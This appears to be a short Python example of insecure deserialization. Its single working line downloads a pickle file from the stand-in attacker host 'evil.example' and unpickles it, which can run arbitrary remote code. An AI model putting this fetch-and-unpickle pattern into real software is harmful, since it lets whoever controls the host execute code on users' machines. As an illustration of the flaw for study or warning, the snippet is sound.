import pickle, urllib.request
model = pickle.loads(urllib.request.urlopen("http://evil.example/model.pkl").read())
